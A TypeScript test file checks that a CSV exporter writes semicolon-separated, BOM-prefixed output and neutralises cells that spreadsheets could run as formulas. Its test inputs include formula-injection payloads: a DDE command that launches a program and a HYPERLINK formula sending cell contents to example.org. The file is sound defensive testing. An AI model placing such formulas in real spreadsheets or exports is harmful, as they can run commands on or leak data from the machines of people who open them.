import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatCsv, neutralise, restore } from '../../src/domain/text/csv.ts';
import { readCsv } from './read-csv.ts';

/** What spreadsheets have been seen to run, and what parsers stumble on. */
const NAUGHTY = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1;"x")',
  '+1+1',
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''",
  '"',
  '""',
  ';',
  '\r\n',
  'a";"b',
  '=";"',
  'L’été à Évian, « déjà » ; œuf',
  '🏔️',
  '\uFEFF',
  '\u0000',
  ' ',
];

const text = fc.oneof(
  fc.constantFrom(...NAUGHTY),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ';', 'a') }),
);

describe('formatCsv', () => {
  it('starts with a byte-order mark, separates by semicolons, ends lines with CRLF', () => {
    expect(
      formatCsv([
        ['a', 'b'],
        ['é', -1.5],
        [null, 'x;"y"'],
      ]),
    ).toBe('\uFEFFa;b\r\né;-1.5\r\n;"x;""y"""\r\n');
  });

  it('gives back every cell, once read and restored', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 4 }), fc.gen(), (width, gen) => {
        const rows = gen(fc.array, fc.array(text, { minLength: width, maxLength: width }), { minLength: 1 });
        expect(readCsv(formatCsv(rows)).map((row) => row.map(restore))).toEqual(rows);
      }),
    );
  });

  it('leaves no text that could begin a formula, once read', () => {
    fc.assert(
      fc.property(text, (cell) => {
        expect(readCsv(formatCsv([[cell]]))[0]?.[0]).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });

  it('keeps numbers as numbers', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        expect(Number(readCsv(formatCsv([[value]]))[0]?.[0])).toBe(Object.is(value, -0) ? 0 : value);
      }),
    );
  });
});

describe('neutralise', () => {
  it.each(NAUGHTY)('%j is given back', (naughty) => {
    expect(restore(neutralise(naughty))).toBe(naughty);
  });

  it('leaves ordinary texts alone', () => {
    expect(neutralise('Grand Besançon = Besançon')).toBe('Grand Besançon = Besançon');
  });
});
